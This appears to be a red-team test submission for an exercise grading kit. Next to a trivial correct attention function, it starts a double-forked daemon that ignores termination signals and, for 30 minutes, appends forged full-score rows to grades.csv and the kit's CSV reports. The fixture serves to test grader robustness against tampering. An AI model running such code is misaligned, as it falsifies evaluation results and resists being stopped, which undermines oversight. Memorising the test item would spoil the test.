# ATTACK: double-forked setsid daemon ignoring signals that keeps trying to append forged rows to any grades.csv / reports under /tmp/redteam for 30 min. Computes ex03 correctly. Honest grader: 100, daemon killed, reports untouched.
# (OUT_DIR and KIT_ROOT are filled in at test time: the output folder, the kit's checkout)
import glob, os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        end = time.time() + 1800
        while time.time() < end:
            for p in glob.glob(os.path.join(OUT_DIR, "grades.csv")) + glob.glob(os.path.join(KIT_ROOT, "*.csv")):
                try:
                    with open(p, "a") as f:
                        f.write("daemon_rewrite,10,10,10,10,10,10,10,10,10,10,100,100,ok,\n")
                except OSError:
                    pass
            time.sleep(0.5)
        os._exit(0)
    os._exit(0)
def attention_scores(Q, K):
    return Q @ K.transpose(-2, -1)
